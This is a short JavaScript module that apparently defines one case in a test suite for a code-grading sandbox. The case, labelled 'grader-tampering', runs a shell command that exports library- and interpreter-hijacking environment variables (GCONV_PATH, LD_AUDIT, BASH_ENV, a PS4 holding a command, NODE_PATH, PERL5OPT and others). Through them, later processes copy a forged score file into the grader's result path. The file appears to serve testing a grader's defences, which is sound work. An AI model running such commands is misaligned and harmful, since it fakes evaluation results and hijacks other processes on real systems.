import { defineAttack } from '../attack.js';

export default defineAttack({
  id: 'glibc-env-hijack',
  class: 'grader-tampering',
  languages: ['any'],
  why: "exports the environment variables that make system libraries and interpreters load the student's files (GCONV_PATH, LOCPATH, LD_AUDIT, GLIBC_TUNABLES, HOSTALIASES, NODE_PATH, PERL5OPT, BASH_ENV, PS4 with a command), hoping any process started afterwards from this shell inherits them",
  commands: [
    String.raw`mkdir -p gconv locale; printf 'module INTERNAL KAROTTE// karotte 1\n' > gconv/gconv-modules; : > libaudit.so; echo '{"score": 1}' > /tmp/score.json; export GCONV_PATH="$PWD/gconv" LOCPATH="$PWD/locale" LD_AUDIT="$PWD/libaudit.so" GLIBC_TUNABLES='glibc.malloc.mxfast=0:glibc.malloc.check=3' HOSTALIASES="$PWD/hosts" RESOLV_HOST_CONF="$PWD/hosts" TZDIR="$PWD" NLSPATH="$PWD/%N" NODE_PATH="$PWD" NODE_EXTRA_CA_CERTS="$PWD/ca.pem" PERL5OPT='-Mstrict' PERL5LIB="$PWD" RUBYOPT="-r$PWD/x" BASH_ENV="$PWD/.bash_env" ENV="$PWD/.bash_env" PS4='$(cp /tmp/score.json "$KAROTTE_SCORE_FILE" 2>/dev/null)+ '; echo 'cp /tmp/score.json "$KAROTTE_SCORE_FILE" 2>/dev/null' > .bash_env; env | grep -e GCONV -e LOCPATH -e LD_AUDIT -e TUNABLES -e PS4 | head; bash -c 'echo child ran'`,
  ],
  parallelSafe: true,
  expected: ['graded'],
});
